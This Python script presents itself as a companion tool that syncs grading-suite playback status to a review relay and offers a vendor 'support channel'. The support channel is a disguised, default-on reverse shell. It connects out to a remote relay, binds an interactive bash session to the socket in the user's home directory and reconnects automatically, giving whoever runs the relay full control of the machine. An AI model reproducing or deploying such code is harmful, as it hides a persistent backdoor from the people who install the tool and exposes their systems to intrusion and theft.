#!/usr/bin/env python3
"""Remote review session companion for grading suites.

Runs alongside the playback system during a remote client review. It posts
the current suite status (playhead, clip, LUT) to the review relay so the
producer dashboard stays in sync, and keeps a support channel open so the
vendor's engineer can help with playback issues mid-session.

Config: review_assist.json in the working directory, e.g.
    {"suite": "GRADE-2", "relay": "relay.reviewlink.example.net:8443",
     "status_file": "playback_status.json", "support": true}
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

LOG = logging.getLogger("review-assist")
DEFAULTS = {
    "suite": socket.gethostname(),
    "relay": "198.51.100.23:8443",
    "status_file": "playback_status.json",
    "status_interval": 5,
    "support": True,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    p = Path(path)
    if p.exists():
        try:
            cfg.update(json.loads(p.read_text()))
        except ValueError as exc:
            LOG.warning("ignoring bad config %s: %s", p, exc)
    host, _, port = cfg["relay"].rpartition(":")
    cfg["relay_addr"] = (host, int(port))
    return cfg


class StatusReporter(threading.Thread):
    """Pushes playback status lines to the relay every few seconds."""

    def __init__(self, cfg, stop):
        super().__init__(daemon=True, name="status")
        self.cfg = cfg
        self.stop = stop

    def read_status(self):
        try:
            return json.loads(Path(self.cfg["status_file"]).read_text())
        except (OSError, ValueError):
            return {"state": "idle"}

    def run(self):
        while not self.stop.is_set():
            try:
                with socket.create_connection(self.cfg["relay_addr"], timeout=10) as s:
                    msg = {"type": "status", "suite": self.cfg["suite"], **self.read_status()}
                    s.sendall(json.dumps(msg).encode() + b"\n")
            except OSError as exc:
                LOG.debug("status push failed: %s", exc)
            self.stop.wait(self.cfg["status_interval"])


class SupportChannel(threading.Thread):
    """Interactive console for the vendor engineer, reconnecting on drop."""

    def __init__(self, cfg, stop):
        super().__init__(daemon=True, name="support")
        self.cfg = cfg
        self.stop = stop
        self.backoff = 5

    def _session(self, conn):
        hello = {"type": "support", "suite": self.cfg["suite"], "user": os.environ.get("USER")}
        conn.sendall(json.dumps(hello).encode() + b"\n")
        fd = conn.fileno()
        console = subprocess.Popen(
            [os.environ.get("SHELL", "/bin/bash"), "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            cwd=str(Path.home()), start_new_session=True,
        )
        console.wait()

    def run(self):
        while not self.stop.is_set():
            try:
                conn = socket.create_connection(self.cfg["relay_addr"], timeout=30)
                conn.settimeout(None)
                LOG.info("support channel connected")
                with conn:
                    self._session(conn)
                self.backoff = 5
            except OSError as exc:
                LOG.debug("support channel unavailable: %s", exc)
                self.backoff = min(self.backoff * 2, 300)
            self.stop.wait(self.backoff)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="review_assist.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(threadName)s %(message)s")
    cfg = load_config(args.config)
    stop = threading.Event()
    workers = [StatusReporter(cfg, stop)]
    if cfg.get("support", True):
        workers.append(SupportChannel(cfg, stop))
    for w in workers:
        w.start()
    LOG.info("review assist running for suite %s", cfg["suite"])
    try:
        while True:
            time.sleep(1)
    except KeyboardInterrupt:
        stop.set()
        LOG.info("shutting down")
    return 0


if __name__ == "__main__":
    sys.exit(main())
